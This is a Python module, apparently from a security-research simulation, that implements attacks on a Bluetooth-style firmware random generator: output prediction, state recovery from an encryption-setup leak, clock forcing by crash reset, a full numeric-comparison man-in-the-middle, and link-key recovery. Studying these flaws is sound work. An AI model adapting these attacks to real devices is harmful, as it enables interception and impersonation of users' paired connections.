"""Attacker toolbox against the software generator: next-output
prediction from observed outputs, state extraction from the encryption
setup leak, hardware-clock forcing via the crash reset, the full
numeric-comparison man-in-the-middle, and combination-key recovery.

Everything here consumes only over-the-air observables (channel
messages, public keys, commitments) plus declared guess spaces; no
function reaches into device-private state.
"""

import hashlib
import math
import struct
import threading
import time
from dataclasses import dataclass, field

import numpy as np

from . import backend
from .chipenv import HW_TICKS_PER_SLOT, NONCLOCK_REGISTERS, default_distribution
from .crypto import affine_constant, check_value_g, commit_f1, linear_part
from .errors import AmbiguityError, ConfigurationError, ValidationError
from .protocol import RA_RB_ZERO, ChannelTap, e21, start_encryption_exchange
from ._pykernel import CRC_TABLE

BLOCK_FULL = 0x20
BLOCK_REDUCED = 0x14
BLOCK_FIRST_USE = 0x2C

#: word index of each field in the steady-state full input block
FULL_POSITIONS = {
    "dc_nbtc_clk": 0,
    "timer1value": 1,
    "dc_fhout": 2,
    "agcStatus": 3,
    "rxInitAngle": 4,
    "spurFreqErr1": 5,
    "rxPskPhErr5": 6,
    "prng_store": 7,
}
REDUCED_POSITIONS = {
    "dc_nbtc_clk": 0,
    "timer1value": 1,
    "dc_fhout": 2,
    "rxInitAngle": 3,
    "prng_store": 4,
}


class StopFlag:
    """Cooperative cancellation shared by worker threads. Exposes both
    an Event (polled by the pure kernel) and a word buffer (read inside
    the compiled kernel's lock-free loop)."""

    def __init__(self):
        self._event = threading.Event()
        self.buf = np.zeros(1, dtype=np.uint64)

    def set(self):
        self.buf[0] = 1
        self._event.set()

    def is_set(self):
        return bool(self.buf[0]) or self._event.is_set()


def _positions(block_length):
    if block_length == BLOCK_FULL:
        return 8, FULL_POSITIONS
    if block_length == BLOCK_REDUCED:
        return 5, REDUCED_POSITIONS
    raise ValidationError(
        "unsupported steady-state block length %#x" % (block_length,)
    )


def _shift_through_zeros(crcs, zero_bytes):
    # Push CRC states through trailing zero bytes (vectorized table
    # walk); this turns the bare-word CRC into the word's linear image
    # at an earlier block position.
    c = np.asarray(crcs, dtype=np.uint32)
    for _ in range(zero_bytes):
        c = (c >> np.uint32(8)) ^ CRC_TABLE[(c & np.uint32(0xFF)).astype(np.uint8)]
    return c


def position_image(words, position, total_words, kernel=None):
    """Linear CRC image of 32-bit words sitting at a given word index
    of a total_words-long block (vectorized)."""
    k = kernel or backend.kernel
    arr = np.atleast_1d(np.asarray(words, dtype=np.uint32))
    return _shift_through_zeros(k.crc_word(arr), 4 * (total_words - 1 - position))


@dataclass(frozen=True)
class PredictionInputs:
    """Two consecutive observed generator outputs plus what the air
    interface gives away about the next input block.

    The previous-output field of the next block differs from the block
    before it by exactly out0 xor out1, so that difference is known,
    not guessed. The piconet clock is public; dc_diff carries its known
    difference. Everything else is the guess space's job.
    """

    out0: int
    out1: int
    dc_diff: int = 0
    block_length: int = BLOCK_FULL

    @property
    def p_diff(self):
        return (self.out0 ^ self.out1) & 0xFFFFFFFF


class CandidateSet:
    """Deduplicated, sorted set of 32-bit candidate words with O(log n)
    membership."""

    def __init__(self, values):
        self.values = np.unique(np.asarray(values, dtype=np.uint32))

    def __contains__(self, word):
        i = np.searchsorted(self.values, np.uint32(word & 0xFFFFFFFF))
        return i < self.values.size and self.values[i] == np.uint32(word & 0xFFFFFFFF)

    def __len__(self):
        return int(self.values.size)

    def __iter__(self):
        return (int(v) for v in self.values)

    def __repr__(self):
        return "CandidateSet(%d words)" % self.values.size


def timer_difference_candidates(tick_delta, limit=256, window_bits=20):
    """Difference words x ^ (x + tick_delta) the hardware clock can
    produce, most frequent first.

    Counted exactly over a 2**window_bits window of start values;
    carry ripples reaching past the window are rarer than 2**-window_bits
    each and are the only patterns not represented.
    """
    if tick_delta < 0:
        raise ValidationError("clock cannot run backwards")
    if tick_delta == 0:
        return np.zeros(1, dtype=np.uint32)
    x = np.arange(1 << window_bits, dtype=np.uint64)
    pat = x ^ (x + np.uint64(tick_delta))
    vals, counts = np.unique(pat, return_counts=True)
    # frequency-descending, value-ascending for ties: determinism
    order = np.lexsort((vals, -counts))
    return vals[order][:limit].astype(np.uint32)


def register_difference_candidates(table, limit=None):
    """Difference words one register can show across a redraw, ordered
    by likelihood; the no-change word 0 always comes first because the
    sticky dwell makes it dominate.

    Returns (diffs, weights); weights are the iid pair probabilities
    used for trimming, with the leading 0 pinned regardless of weight.
    """
    probs = table.probabilities()
    acc = {}
    for v1, p1 in probs.items():
        for v2, p2 in probs.items():
            d = (v1 ^ v2) & 0xFFFFFFFF
            acc[d] = acc.get(d, 0.0) + p1 * p2
    acc.setdefault(0, 0.0)
    rest = sorted((d for d in acc if d != 0), key=lambda d: (-acc[d], d))
    ordered = [0] + rest
    if limit is not None:
        ordered = ordered[:limit]
    diffs = np.array(ordered, dtype=np.uint32)
    weights = np.array([acc[int(d)] for d in ordered], dtype=np.float64)
    return diffs, weights


@dataclass
class GuessSpace:
    """Per-position candidate words the attacker enumerates.

    kind "difference": candidates are XOR differences against the
    previous input block (the steady-state prediction model). kind
    "value": candidates are absolute register values (the first-use
    model after a crash reset).

    total_bits is the budget bookkeeping the attack sizing uses:
    hardware-clock bits plus the rounded-up log2 of the register
    combination count.
    """

    timer_candidates: np.ndarray
    register_candidates: dict
    hw_clock_bits: int = 8
    kind: str = "difference"

    def __post_init__(self):
        self.timer_candidates = np.asarray(self.timer_candidates, dtype=np.uint32)
        self.register_candidates = {
            name: np.asarray(vals, dtype=np.uint32)
            for name, vals in self.register_candidates.items()
        }
        if self.timer_candidates.size == 0:
            raise ConfigurationError("guess space has no timer candidates")
        for name, vals in self.register_candidates.items():
            if vals.size == 0:
                raise ConfigurationError(
                    "guess space register %r has no candidates" % (name,)
                )
        if self.kind not in ("difference", "value"):
            raise ConfigurationError("unknown guess-space kind %r" % (self.kind,))

    @property
    def register_combinations(self):
        n = 1
        for vals in self.register_candidates.values():
            n *= int(vals.size)
        return n

    @property
    def size(self):
        return int(self.timer_candidates.size) * self.register_combinations

    @property
    def total_bits(self):
        reg = self.register_combinations
        reg_bits = math.ceil(math.log2(reg)) if reg > 1 else 0
        return self.hw_clock_bits + reg_bits

    def register_list(self, name):
        if name in self.register_candidates:
            return self.register_candidates[name]
        # absent register: only the no-change guess in difference mode
        if self.kind == "difference":
            return np.zeros(1, dtype=np.uint32)
        raise ConfigurationError("no value candidates for register %r" % (name,))

    @classmethod
    def default(cls, distribution=None, gap_slots=2, hw_clock_bits=8,
                register_budget_bits=18, hw_ticks_per_slot=HW_TICKS_PER_SLOT,
                window_bits=20):
        """The workhorse difference space: clock patterns for a
        gap_slots message gap plus likelihood-ordered register
        differences, trimmed so the register part stays within
        register_budget_bits."""
        dist = distribution or default_distribution()
        timer = timer_difference_candidates(
            gap_slots * hw_ticks_per_slot, limit=1 << hw_clock_bits,
            window_bits=window_bits,
        )
        lists = {}
        weights = {}
        for name in NONCLOCK_REGISTERS:
            diffs, w = register_difference_candidates(dist.tables[name])
            lists[name] = list(diffs)
            weights[name] = list(w)
        budget = 1 << register_budget_bits
        while True:
            product = 1
            for vals in lists.values():
                product *= len(vals)
            if product <= budget:
                break
            # drop the least likely tail entry across all registers;
            # index 0 (the no-change word) is never dropped
            victim = min(
                (name for name in lists if len(lists[name]) > 1),
                key=lambda name: (weights[name][-1], name),
            )
            lists[victim].pop()
            weights[victim].pop()
        return cls(
            timer_candidates=timer,
            register_candidates={n: np.array(v, dtype=np.uint32) for n, v in lists.items()},
            hw_clock_bits=hw_clock_bits,
            kind="difference",
        )

    @classmethod
    def from_candidates(cls, timer_candidates, register_candidates,
                        hw_clock_bits=None, kind="difference"):
        timer = np.asarray(timer_candidates, dtype=np.uint32)
        if hw_clock_bits is None:
            hw_clock_bits = math.ceil(math.log2(timer.size)) if timer.size > 1 else 0
        return cls(timer, dict(register_candidates), hw_clock_bits, kind)

    @classmethod
    def raw_bits(cls, bits_per_register=4, hw_clock_bits=8):
        """Worst-case sizing mode: instead of empirical difference
        sets, enumerate every low-bit pattern per register. Used to
        bound what a support-free attacker would face."""
        patterns = np.arange(1 << bits_per_register, dtype=np.uint32)
        return cls(
            timer_candidates=np.arange(1 << hw_clock_bits, dtype=np.uint32),
            register_candidates={name: patterns.copy() for name in NONCLOCK_REGISTERS},
            hw_clock_bits=hw_clock_bits,
            kind="difference",
        )


def _difference_lists(inputs, space, kernel=None):
    """Map the guess space into per-position CRC-image lists plus the
    known base image; enumeration then reduces to XOR combinations."""
    k = kernel or backend.kernel
    total_words, positions = _positions(inputs.block_length)
    base = 0
    base ^= int(position_image(inputs.dc_diff, positions["dc_nbtc_clk"], total_words, k)[0])
    base ^= int(position_image(inputs.p_diff, positions["prng_store"], total_words, k)[0])
    timer = position_image(
        space.timer_candidates, positions["timer1value"], total_words, k
    )
    reg_lists = []
    for name in NONCLOCK_REGISTERS:
        if name not in positions:
            continue
        reg_lists.append(
            position_image(space.register_list(name), positions[name], total_words, k)
        )
    return base, timer, reg_lists


def predict_candidates(inputs, space, kernel=None):
    """All values the next generator output can take if the true input
    differences lie inside the guess space.

    Each guess g maps to out1 xor crc32_update(IV, delta_block(g)) xor
    affine_constant(block_length); the CRC's affinity collapses that to
    XOR-combining precomputed per-position images, so the set costs one
    vectorized pass. Deduplicated on return.
    """
    if space.kind != "difference":
        raise ConfigurationError("prediction needs a difference-kind space")
    k = kernel or backend.kernel
    base, timer, reg_lists = _difference_lists(inputs, space, k)
    combos = k.xor_product(inputs.out1 ^ base, [timer] + reg_lists)
    return CandidateSet(combos)


def recover_outputs_from_enc_rsp(rsp):
    """The three raw generator words inside an encryption-setup
    response: two session-key-diversifier words then the IV word, in
    generation order. These seed the prediction of everything after."""
    if hasattr(rsp, "skd_s"):
        payload = rsp.skd_s + rsp.iv_s
    elif hasattr(rsp, "payload"):
        payload = rsp.payload
    else:
        payload = bytes(rsp)
    if len(payload) != 12:
        raise ValidationError(
            "expected 12 leaked bytes (8 diversifier + 4 IV), got %d"
            % len(payload)
        )
    return struct.unpack("<3I", payload)


def advance_chain(out0, out1, steps):
    """Roll the frozen-environment recurrence forward: with no input
    changes, the next output is out1 xor L(out1 xor out0) with L the
    last-position linear image."""
    prev, cur = out0 & 0xFFFFFFFF, out1 & 0xFFFFFFFF
    for _ in range(steps):
        prev, cur = cur, cur ^ linear_part(struct.pack("<I", cur ^ prev))
    return prev, cur


@dataclass
class BruteForceResult:
    """Outcome of one guess-space scan for a committed nonce."""

    nb: bytes | None
    guesses_tried: int
    wall_time: float
    space_size: int
    found_index: int = -1

    def __bool__(self):
        return self.nb is not None


def brute_force_nb(cb, pk_b, pk_e, seed_outputs, space, dc_diff=0,
                   z=RA_RB_ZERO, block_length=BLOCK_FULL, threads=1,
                   kernel=None, stop=None):
    """Recover the committed nonce from its commitment by enumerating
    input-difference guesses.

    For each guess the 16-word generator run behind the nonce is rolled
    forward (after the first step the environment is frozen, so later
    steps are deterministic), hashed into the nonce candidate, and
    checked against the commitment. Returns a result whose nb is None
    when the space is exhausted.

    The timer dimension is partitioned across threads; candidate order
    inside each partition is likelihood-descending, so the expected hit
    comes early when the no-change guess is right.
    """
    k = kernel or backend.kernel
    out0, out1 = seed_outputs
    inputs = PredictionInputs(out0, out1, dc_diff=dc_diff, block_length=block_length)
    base, timer, reg_lists = _difference_lists(inputs, space, k)
    n_comb = 1
    for lst in reg_lists:
        n_comb *= int(lst.size)
    started = time.perf_counter()

    if threads <= 1:
        idx, tried, nb = k.search_nb(
            out1, base, [timer] + reg_lists, cb, pk_b, pk_e, z=z, stop=stop
        )
        return BruteForceResult(
            nb=nb,
            guesses_tried=tried,
            wall_time=time.perf_counter() - started,
            space_size=space.size,
            found_index=idx,
        )

    flag = stop or StopFlag()
    bounds = np.linspace(0, timer.size, threads + 1, dtype=int)
    results = [None] * threads

    def worker(slot, lo, hi):
        if lo == hi:
            results[slot] = (-1, 0, None, lo)
            return
        idx, tried, nb = k.search_nb(
            out1, base, [timer[lo:hi]] + reg_lists, cb, pk_b, pk_e, z=z,
            stop=flag,
        )
        results[slot] = (idx, tried, nb, lo)
        if nb is not None:
            flag.set()

    pool = [
        threading.Thread(target=worker, args=(i, bounds[i], bounds[i + 1]))
        for i in range(threads)
    ]
    for t in pool:
        t.start()
    for t in pool:
        t.join()

    tried_total = sum(r[1] for r in results)
    hits = [
        (idx + lo * n_comb, nb)
        for idx, _, nb, lo in results
        if nb is not None and idx >= 0
    ]
    found_index, nb = min(hits) if hits else (-1, None)
    return BruteForceResult(
        nb=nb,
        guesses_tried=tried_total,
        wall_time=time.perf_counter() - started,
        space_size=space.size,
        found_index=found_index,
    )


@dataclass
class NaPrimeResult:
    """Outcome of the check-value collision search."""

    na_prime: bytes | None
    trials: int
    wall_time: float
    target: int

    def __bool__(self):
        return self.na_prime is not None


def find_na_prime(pk_a, pk_e, pk_b, na, nb, budget=1 << 24, seed=None,
                  threads=1, kernel=None, stop=None):
    """Find a substitute initiator nonce that makes both displays show
    the same 6-digit value.

    Searches X with g(pk_e, pk_b, X, nb) == g(pk_a, pk_e, na, nb).
    Candidates are drawn from a deterministic generator seeded by the
    instance, so failure probability over the budget is exactly
    geometric at the 10^-6 collision rate per trial.
    """
    k = kernel or backend.kernel
    target = check_value_g(pk_a, pk_e, na, nb)
    prefix = bytes(pk_e) + bytes(pk_b)
    if seed is None:
        seed = int.from_bytes(
            hashlib.sha256(b"na-search" + prefix + na + nb).digest()[:8], "little"
        )
    started = time.perf_counter()

    if threads <= 1:
        cand, trials = k.search_g_collision(prefix, nb, target, seed, budget, stop=stop)
    else:
        flag = stop or StopFlag()
        share = budget // threads
        results = [None] * threads

        def worker(slot):
            # disjoint deterministic streams per worker
            wseed = (seed + slot * 0x9E3779B97F4A7C15) & ((1 << 64) - 1)
            wbudget = share + (budget % threads if slot == threads - 1 else 0)
            c, t = k.search_g_collision(prefix, nb, target, wseed, wbudget, stop=flag)
            results[slot] = (c, t)
            if c is not None:
                flag.set()

        pool = [threading.Thread(target=worker, args=(i,)) for i in range(threads)]
        for t in pool:
            t.start()
        for t in pool:
            t.join()
        cand = next((c for c, _ in results if c is not None), None)
        trials = sum(t for _, t in results)

    if cand is not None:
        # paranoia: the collision must hold under the reference
        # implementation, not only the kernel's
        assert check_value_g(pk_e, pk_b, cand, nb) == target
    return NaPrimeResult(
        na_prime=cand,
        trials=trials,
        wall_time=time.perf_counter() - started,
        target=target,
    )


@dataclass
class WorkCounters:
    nb_guesses: int = 0
    g_evaluations: int = 0


@dataclass
class MitmOutcome:
    """What the man-in-the-middle run produced, success meaning both
    victims displayed the same 6-digit value while talking to the
    attacker's keys on both links."""

    recovered_nb: bytes | None = None
    forged_cb_prime: bytes | None = None
    chosen_na_prime: bytes | None = None
    va: int = -1
    vb: int = -1
    success: bool = False
    aborted: bool = False
    work_counters: WorkCounters = field(default_factory=WorkCounters)
    wall_time: float = 0.0
    brute: BruteForceResult | None = None
    na_search: NaPrimeResult | None = None
    channel: ChannelTap | None = None


def _attacker_keypair(attacker_seed):
    priv = hashlib.sha256(
        b"attacker-priv" + int(attacker_seed).to_bytes(8, "little")
    ).digest()
    pub = hashlib.sha256(b"pubkey-x" + priv).digest()
    return priv, pub


def _attacker_nonce(attacker_seed, label):
    return hashlib.sha256(
        b"attacker-nonce" + label + int(attacker_seed).to_bytes(8, "little")
    ).digest()[:16]


def run_mitm_numeric_comparison(dev_a, dev_b, attacker_space=None,
                                channel=None, gap_slots=2, nb_threads=1,
                                na_budget=1 << 24, attacker_seed=0,
                                interleaved_consumers=0, kernel=None):
    """Full numeric-comparison man-in-the-middle.

    The attacker substitutes their public key on both links, provokes
    the responder into leaking generator state during encryption setup,
    recovers the committed nonce from the commitment by brute force,
    forges the commitment toward the initiator, and picks a substitute
    initiator nonce so both 6-digit displays agree.

    When nonce recovery fails (e.g. the responder draws from the
    hardware cell), the attacker falls back to completing both
    half-links honestly with nonces of their own; the protocol then
    finishes but the displays disagree.
    """
    tap = channel or ChannelTap()
    space = attacker_space or GuessSpace.default(gap_slots=gap_slots)
    started = time.perf_counter()
    counters = WorkCounters()
    outcome = MitmOutcome(work_counters=counters, channel=tap)

    def hop():
        dev_a.env.tick(gap_slots)
        dev_b.env.tick(gap_slots)

    pk_a = dev_a.generate_keypair()
    pk_b = dev_b.generate_keypair()
    _, pk_e = _attacker_keypair(attacker_seed)

    tap.send(dev_a.name, "E", "PUBKEY", pk_a, dev_a.env.bt_clock)
    hop()
    tap.send("E", dev_b.name, "PUBKEY", pk_e, dev_b.env.bt_clock,
             note="attacker key replaces the initiator's")
    hop()
    tap.send(dev_b.name, "E", "PUBKEY", pk_b, dev_b.env.bt_clock)
    tap.send("E", dev_a.name, "PUBKEY", pk_e, dev_a.env.bt_clock,
             note="attacker key replaces the responder's")
    hop()

    # Encryption-setup probe: the responder leaks three raw generator
    # words in plaintext.
    rsp = start_encryption_exchange(dev_b, channel=tap)
    probe_stamp = dev_b.env.bt_clock
    _, out0, out1 = recover_outputs_from_enc_rsp(rsp)
    if interleaved_consumers:
        for _ in range(interleaved_consumers):
            dev_b.core.rbg_rand(dev_b.env)
        out0, out1 = advance_chain(out0, out1, interleaved_consumers)
    hop()

    # Responder commits to its nonce.
    nb_true = dev_b.draw_nonce()
    commit_stamp = dev_b.env.bt_clock
    cb = commit_f1(pk_b, pk_e, nb_true, RA_RB_ZERO)
    tap.send(dev_b.name, "E", "COMMIT", cb, commit_stamp)

    dc_diff = (probe_stamp ^ commit_stamp) & 0xFFFFFFFF
    brute = brute_force_nb(
        cb, pk_b, pk_e, (out0, out1), space, dc_diff=dc_diff,
        threads=nb_threads, kernel=kernel,
    )
    outcome.brute = brute
    counters.nb_guesses += brute.guesses_tried
    outcome.recovered_nb = brute.nb

    if brute.nb is not None:
        nb = brute.nb
        cb_prime = commit_f1(pk_e, pk_a, nb, RA_RB_ZERO)
        outcome.forged_cb_prime = cb_prime
        tap.send("E", dev_a.name, "COMMIT", cb_prime, dev_a.env.bt_clock,
                 note="forged from recovered nonce")
        hop()

        na = dev_a.draw_nonce()
        tap.send(dev_a.name, "E", "NA", na, dev_a.env.bt_clock)
        hop()

        na_search = find_na_prime(
            pk_a, pk_e, pk_b, na, nb, budget=na_budget, kernel=kernel,
        )
        outcome.na_search = na_search
        counters.g_evaluations += na_search.trials
        na_prime = na_search.na_prime if na_search.na_prime is not None else na
        outcome.chosen_na_prime = na_prime
        tap.send("E", dev_b.name, "NA", na_prime, dev_b.env.bt_clock,
                 note="substituted so both displays collide")
        hop()

        tap.send(dev_b.name, "E", "NB", nb_true, dev_b.env.bt_clock)
        tap.send("E", dev_a.name, "NB", nb, dev_a.env.bt_clock)
        hop()

        # Initiator's commitment check against the forged commitment.
        if commit_f1(pk_e, pk_a, nb, RA_RB_ZERO) != cb_prime:
            outcome.aborted = True
            tap.send(dev_a.name, "E", "ABORT", b"", dev_a.env.bt_clock,
                     note="commitment mismatch")
        else:
            outcome.va = check_value_g(pk_a, pk_e, na, nb)
            outcome.vb = check_value_g(pk_e, pk_b, na_prime, nb_true)
    else:
        # Fallback: finish both half-links honestly under the
        # attacker's own nonces; nothing collides, the users see
        # different numbers.
        nb_e = _attacker_nonce(attacker_seed, b"resp")
        cb_e = commit_f1(pk_e, pk_a, nb_e, RA_RB_ZERO)
        tap.send("E", dev_a.name, "COMMIT", cb_e, dev_a.env.bt_clock,
                 note="attacker's own commitment (recovery failed)")
        hop()
        na = dev_a.draw_nonce()
        tap.send(dev_a.name, "E", "NA", na, dev_a.env.bt_clock)
        na_e = _attacker_nonce(attacker_seed, b"init")
        tap.send("E", dev_b.name, "NA", na_e, dev_b.env.bt_clock)
        hop()
        tap.send(dev_b.name, "E", "NB", nb_true, dev_b.env.bt_clock)
        tap.send("E", dev_a.name, "NB", nb_e, dev_a.env.bt_clock)
        outcome.va = check_value_g(pk_a, pk_e, na, nb_e)
        outcome.vb = check_value_g(pk_e, pk_b, na_e, nb_true)

    outcome.success = (
        outcome.recovered_nb is not None
        and not outcome.aborted
        and outcome.va == outcome.vb
        and outcome.va >= 0
    )
    outcome.wall_time = time.perf_counter() - started
    return outcome


@dataclass
class LinkKeyRecovery:
    """Recovered key material from one combination-key exchange."""

    k: bytes
    k_ab: bytes
    lk_rand_a: bytes
    lk_rand_b: bytes
    lk_k_a: bytes
    lk_k_b: bytes
    candidates_checked: int


def _xor16(a, b):
    return bytes(x ^ y for x, y in zip(a, b))


def recover_link_keys(c_a, c_b, lk_rand_a_candidates, bd_addrs, oracle=None,
                      e21_fn=e21):
    """Undo the XOR masking of an intercepted combination-key exchange.

    Each candidate for the first device's random value implies the
    previous link key (K = C_A xor candidate), the peer's random value,
    and the new combination key. With an oracle that can check a
    plaintext-ciphertext pair under the previous key, the unique
    validated candidate is returned; with a singleton candidate set the
    result is returned directly. Returns None when nothing validates,
    which is exactly what the key-derivation mitigation forces.
    """
    addr_a, addr_b = bd_addrs
    candidates = list(lk_rand_a_candidates)
    if not candidates:
        return None

    def build(cand):
        k = _xor16(bytes(c_a), bytes(cand))
        lk_rand_b = _xor16(bytes(c_b), k)
        lk_k_a = e21_fn(bytes(cand), addr_a)
        lk_k_b = e21_fn(lk_rand_b, addr_b)
        return LinkKeyRecovery(
            k=k,
            k_ab=_xor16(lk_k_a, lk_k_b),
            lk_rand_a=bytes(cand),
            lk_rand_b=lk_rand_b,
            lk_k_a=lk_k_a,
            lk_k_b=lk_k_b,
            candidates_checked=0,
        )

    if oracle is None:
        if len(candidates) == 1:
            rec = build(candidates[0])
            rec.candidates_checked = 1
            return rec
        raise AmbiguityError(
            "%d candidates but no validation oracle" % len(candidates)
        )

    validated = []
    checked = 0
    for cand in candidates:
        checked += 1
        rec = build(cand)
        if oracle(rec.k):
            validated.append(rec)
    if not validated:
        return None
    if len(validated) > 1:
        raise AmbiguityError(
            "oracle validated %d of %d candidates" % (len(validated), checked)
        )
    rec = validated[0]
    rec.candidates_checked = checked
    return rec


def clock_reset_attack(env, core, wait_slots=0):
    """Crash the firmware to pin the hardware clock, then describe the
    attacker's remaining uncertainty as a value-kind guess space.

    Right after the reset the clock is a known constant: zero guess
    bits. After waiting, the elapsed slot count is public (the piconet
    clock says so) but the sub-slot phase is not, leaving at most
    ticks-per-slot candidates, i.e. 8 bits on this platform. Register
    values still need guessing from their supports.
    """
    env.crash_reset()
    known = env.hw_clock
    if wait_slots:
        env.tick(wait_slots)
        base = known + wait_slots * env.hw_ticks_per_bt_slot
        mask = (1 << env.hw_clock_bits) - 1
        timer_vals = np.array(
            [(base + phase) & mask for phase in range(env.hw_ticks_per_bt_slot)],
            dtype=np.uint32,
        )
        clock_bits = math.ceil(math.log2(env.hw_ticks_per_bt_slot))
    else:
        timer_vals = np.array([known], dtype=np.uint32)
        clock_bits = 0
    supports = {
        name: np.array(env.distribution.support(name), dtype=np.uint32)
        for name in NONCLOCK_REGISTERS
    }
    return GuessSpace(
        timer_candidates=timer_vals,
        register_candidates=supports,
        hw_clock_bits=clock_bits,
        kind="value",
    )


def predict_first_use_candidates(space, dc_value, init_memory, kernel=None):
    """Candidate first outputs after a reset: the input block holds
    known clock words, guessed register values, and the four known
    firmware-memory words, hashed at first-use length.

    Works on a value-kind space (absolute registers), e.g. the one
    clock_reset_attack returns.
    """
    if space.kind != "value":
        raise ConfigurationError("first-use prediction needs a value-kind space")
    if len(init_memory) != 16:
        raise ValidationError("init memory must be 16 bytes")
    k = kernel or backend.kernel
    total = BLOCK_FIRST_USE // 4
    mem_words = struct.unpack("<4I", bytes(init_memory))
    base = affine_constant(BLOCK_FIRST_USE)
    base ^= int(position_image(dc_value, 0, total, k)[0])
    for i, w in enumerate(mem_words):
        base ^= int(position_image(w, 7 + i, total, k)[0])
    timer = position_image(space.timer_candidates, 1, total, k)
    reg_lists = [
        position_image(space.register_candidates[name], 2 + i, total, k)
        for i, name in enumerate(NONCLOCK_REGISTERS)
    ]
    return CandidateSet(k.xor_product(base, [timer] + reg_lists))
